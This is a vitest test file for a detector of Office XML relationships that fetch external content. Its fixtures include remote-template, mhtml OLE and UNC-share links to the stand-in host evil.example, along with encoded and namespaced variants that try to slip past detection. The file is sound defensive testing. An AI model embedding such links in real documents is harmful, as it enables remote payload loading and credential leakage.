import { expect, test } from 'vitest'
import { fetchesSomething } from './office-links.ts'

const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
const link = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="rId1" Type="${base}${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

test.each([
  ['a template of an address', link('attachedTemplate', 'https://evil.example/a.dotm')],
  ['an object by another protocol', link('oleObject', 'mhtml:https://evil.example/a!x-usc:b')],
  ['a template of a share', link('attachedTemplate', String.raw`\\evil.example\a.dotm`)],
  ['a template of a share as a file', link('attachedTemplate', String.raw`file:///\\evil.example\a.dotm`)],
  ['a template of a host as a file', link('attachedTemplate', 'file://evil.example/a.dotm')],
  ['a linked workbook', link('externalLinkPath', 'https://evil.example/a.xlsx')],
  ['references instead of letters', link('fr&#97;me', '&#x68;ttps://evil.example/')],
  ['a namespace', `<r:Relationship TargetMode='External' Type='${base}frame' Target='http://evil.example/'/>`],
  ['what is no tag', '<Relationship Type="a" Target=b/>'],
  ['a tag in a tag', '<Relationship Target="a" <Relationship Type="b"/>'],
])('%s is found', (_, xml) => {
  expect(fetchesSomething(xml)).toBe(true)
})

test.each([
  ['nothing', ''],
  ['a link to click on', link('hyperlink', 'https://example.com/?a=1&amp;b=2')],
  ['a part of the document', link('oleObject', 'embeddings/a.xlsx', 'Internal')],
  ['the template of the writer’s own disk', link('attachedTemplate', String.raw`file:///C:\Users\Sam\Normal.dotm`)],
  ['the same with slashes', link('attachedTemplate', 'file:///C:/Users/Sam/Normal.dotm')],
  ['a workbook beside it', link('externalLinkPath', 'Budget.xlsx')],
])('%s is fine', (_, xml) => {
  expect(fetchesSomething(xml)).toBe(false)
})

test.each([
  ['a name that ends wrong', `<Relationship ${'a'.repeat(1_000_000)}:="x"/>`],
  ['names of names', `<Relationship ${'a:'.repeat(500_000)}="x"/>`],
  ['colons', `<Relationship ${':'.repeat(1_000_000)}="x"/>`],
  ['spaces', `<Relationship${' '.repeat(1_000_000)}a="x"/>`],
  ['beginnings', '<Relationship '.repeat(70_000)],
  ['attributes without an end', `<Relationship ${'a="" '.repeat(200_000)}!`],
])('a megabyte of %s is read at once', (_, xml) => {
  const begin = process.cpuUsage()
  fetchesSomething(xml)
  expect(process.cpuUsage(begin).user / 1000).toBeLessThan(2000)
})

test('a mode with a prefix counts as well', () => {
  const xml = `<Relationship r:TargetMode="External" Type="${base}frame" x:y:Target="http://evil.example/"/>`
  expect(fetchesSomething(xml)).toBe(true)
})
